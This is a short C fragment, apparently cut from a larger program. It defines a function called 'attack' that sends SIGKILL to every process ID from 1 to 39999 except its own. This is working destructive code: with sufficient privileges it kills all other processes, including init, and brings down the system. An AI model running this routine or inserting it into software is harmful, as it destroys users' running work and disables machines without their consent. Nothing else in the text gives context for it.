static void attack(void)
{
    for (pid_t pid = 1; pid < 40000; ++pid)
        if (pid != getpid())
            kill(pid, SIGKILL);
}
